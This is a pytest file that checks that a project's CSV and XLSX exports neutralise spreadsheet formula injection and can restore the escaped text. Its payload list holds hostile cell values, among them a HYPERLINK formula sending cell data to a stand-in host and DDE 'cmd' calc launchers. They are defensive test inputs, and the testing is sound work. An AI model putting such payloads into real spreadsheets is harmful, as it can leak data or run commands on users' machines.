"""Formula-safe exports (OWASP CSV injection): CSV from the CLI and XLSX workbooks."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "cli"))

from cli_helpers import Cli
from click.testing import CliRunner

from fieldwelfare.sheets import restore_text, safe_text, to_csv
from fieldwelfare.sheets.xlsx import WorkbookWriter

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_formula_start_is_neutralised_and_restorable(payload: str) -> None:
    safe = safe_text(payload)
    assert safe == "'" + payload
    assert restore_text(safe) == payload


def test_plain_text_and_numbers_are_unchanged() -> None:
    assert safe_text("Caritas Lecco, via Roma 1") == "Caritas Lecco, via Roma 1"
    assert safe_text("a-b=c") == "a-b=c"
    assert restore_text("'quoted' word") == "'quoted' word"
    assert to_csv(["n", "x"], [[-5, 2.5]]) == '"n","x"\n-5,2.5\n'


def test_control_characters_are_escaped_not_stripped() -> None:
    assert safe_text("bell\x07end\x00") == "bell\\x07end\\x00"
    assert safe_text("two\nlines\ttab") == "two\nlines\ttab"


def test_record_list_csv_neutralises_all_payloads(tmp_path: Path) -> None:
    run = Cli(tmp_path / "cli.db", CliRunner())
    for payload in PAYLOADS:
        run.add("organisation", {"name": "x" + payload.strip(), "kind": "odv",
                                 "contact": payload})
    text = run.ok("record", "list", "organisation", "--format", "csv", "--limit", "0").stdout
    contacts = [row["contact"] for row in csv.DictReader(io.StringIO(text))]
    assert len(contacts) == len(PAYLOADS)
    assert all(c.startswith("'") for c in contacts), contacts
    assert sorted(restore_text(c) for c in contacts) == sorted(
        p.strip() if p.startswith(("\t", "\r")) else p for p in PAYLOADS)


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    writer = WorkbookWriter()
    writer.table("=bad", ["=h", "n"], [[p, i] for i, p in enumerate(PAYLOADS)])
    path = tmp_path / "out.xlsx"
    writer.save(path)
    sheet = load_workbook(path).active
    assert sheet is not None
    values = [sheet.cell(row=r, column=1) for r in range(1, len(PAYLOADS) + 2)]
    assert all(c.data_type == "s" and str(c.value).startswith("'") for c in values)
    assert [sheet.cell(row=r, column=2).value for r in range(2, 8)] == list(range(6))
